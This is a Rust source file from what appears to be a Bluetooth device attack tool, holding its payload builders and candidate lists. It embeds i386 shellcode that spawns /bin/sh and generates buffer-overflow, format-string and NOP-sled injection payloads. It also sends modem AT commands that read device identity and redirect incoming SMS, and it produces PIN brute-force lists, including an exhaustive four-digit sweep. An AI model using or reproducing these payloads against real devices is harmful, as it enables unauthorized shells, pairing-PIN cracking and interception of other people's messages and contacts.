//! Payload builders and the fixed candidate lists.

use bluefang_common::{AttackConfig, PayloadType, PinMode};

/// i386 `xor eax,eax; inc eax; xor ebx,ebx; int 0x80` (exit).
const EXIT_STUB: [u8; 7] = [0x31, 0xc0, 0x40, 0x31, 0xdb, 0xcd, 0x80];

/// i386 `execve("/bin//sh")`.
const EXECVE_STUB: [u8; 23] = [
    0x31, 0xc0, 0x50, 0x68, 0x2f, 0x2f, 0x73, 0x68, 0x68, 0x2f, 0x62, 0x69, 0x6e, 0x89, 0xe3, 0x50,
    0x53, 0x89, 0xe1, 0xb0, 0x0b, 0xcd, 0x80,
];

const NOP: u8 = 0x90;

/// Injection payload: the explicit `payload` option wins, otherwise one
/// generated from `payloadType`.
pub fn injection_payload(config: &AttackConfig) -> Vec<u8> {
    if let Some(explicit) = &config.payload {
        return explicit.as_bytes().to_vec();
    }
    match config.payload_type {
        PayloadType::BufferOverflow => vec![b'A'; 1024],
        PayloadType::FormatString => b"%x".repeat(16),
        PayloadType::Shellcode => {
            let mut out = vec![NOP; 100];
            out.extend_from_slice(&EXIT_STUB);
            out
        }
        PayloadType::NopSled => vec![NOP; 512],
    }
}

/// Offset-marking pattern (little-endian u32 offsets) with the execve stub at
/// the tail, NOP-padded to exactly `size` bytes.
pub fn overflow_payload(size: usize) -> Vec<u8> {
    let mut out: Vec<u8> = (0..size)
        .step_by(4)
        .flat_map(|offset| (offset as u32).to_le_bytes())
        .take(size.saturating_sub(EXECVE_STUB.len()))
        .collect();
    out.extend_from_slice(&EXECVE_STUB);
    out.truncate(size);
    out.resize(size, NOP);
    out
}

/// Device-identity queries pushed over open serial channels.
pub const IDENTITY_QUERY: &[u8] = b"AT+CGMI\r\nAT+CGMM\r\nAT+CGSN\r\n";

/// Device-info and SMS-control battery.
pub const AT_BATTERY: &[&str] = &[
    "AT+CGSN",
    "AT+CGMI",
    "AT+CGMM",
    "AT+CGMR",
    "AT+CPIN?",
    "AT+COPS?",
    "AT+CSQ",
    "AT+CLIP=1",
    "AT+CMGF=1",
    "AT+CNMI=2,2,0,0,0",
];

/// An AT reply counts when the modem acknowledged it either way.
pub fn is_at_reply(reply: &[u8]) -> bool {
    let text = String::from_utf8_lossy(reply);
    text.contains("OK") || text.contains("ERROR")
}

const COMMON_PINS: &[&str] = &[
    "0000", "1111", "1234", "2222", "3333", "4444", "5555", "6666", "7777", "8888", "9999", "0123",
    "1230", "0001", "1110", "1212", "2020", "2021", "2022", "2023", "2024",
];

const MANUFACTURER_PINS: &[&str] = &[
    "0000", "1111", "1234", "4321", "5678", "8765", "9999", "8888", "7777", "6666", "5555", "4444",
    "3333", "2222",
];

const SIX_DIGIT_PINS: &[&str] = &["000000", "111111", "123456", "654321", "999999", "888888"];

/// Ordered, de-duplicated PIN candidates capped at `attempts`.
pub fn pin_candidates(config: &AttackConfig) -> Vec<String> {
    let limit = config.attempts as usize;
    let mut out: Vec<String> = Vec::new();
    let mut push = |pin: String| {
        if !out.contains(&pin) {
            out.push(pin);
        }
    };
    match (&config.pins, config.pin_mode) {
        (Some(pins), _) => pins.iter().cloned().for_each(&mut push),
        (None, PinMode::Exhaustive) => (0..10_000).map(|n| format!("{:04}", n)).for_each(&mut push),
        (None, PinMode::List) => COMMON_PINS
            .iter()
            .chain(MANUFACTURER_PINS)
            .chain(SIX_DIGIT_PINS)
            .map(|pin| pin.to_string())
            .for_each(&mut push),
    }
    out.truncate(limit);
    out
}

/// Minimal vCard 2.1 carrying `message` as the contact name.
pub fn message_card(message: &str) -> String {
    format!(
        "BEGIN:VCARD\r\nVERSION:2.1\r\nN:{msg}\r\nFN:{msg}\r\nNOTE:{msg}\r\nEND:VCARD\r\n",
        msg = message
    )
}

/// Split concatenated vCards into individual records.
pub fn split_vcards(text: &str) -> Vec<String> {
    split_blocks(text, "BEGIN:VCARD", "END:VCARD")
}

/// Split a vCalendar body into its events.
pub fn split_events(text: &str) -> Vec<String> {
    split_blocks(text, "BEGIN:VEVENT", "END:VEVENT")
}

fn split_blocks(text: &str, begin: &str, end: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut current: Option<Vec<&str>> = None;
    for line in text.lines().map(str::trim_end) {
        if line.eq_ignore_ascii_case(begin) {
            current = Some(vec![line]);
        } else if let Some(block) = current.as_mut() {
            block.push(line);
            if line.eq_ignore_ascii_case(end) {
                out.push(block.join("\n"));
                current = None;
            }
        }
    }
    out
}
